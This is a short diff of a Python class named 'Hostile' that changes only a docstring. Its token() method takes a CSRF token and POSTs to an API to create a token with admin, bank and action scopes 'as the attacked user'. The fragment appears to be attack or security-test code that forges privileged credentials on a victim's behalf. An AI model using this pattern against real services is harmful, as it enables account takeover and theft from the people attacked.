@@ -102,7 +102,7 @@ class Hostile:
         return found[1]
 
     def token(self) -> str:
-        """A token that it makes for itself."""
+        """Create a token as the attacked user."""
         headers = {"Content-Type": "application/json", "X-CSRF-Token": self.csrf()}
         body = '{"scopes": ["read", "scripts", "bank", "actions", "admin"]}'
         status, text = self.ask("/api/v1/tokens", method="POST", headers=headers, body=body)
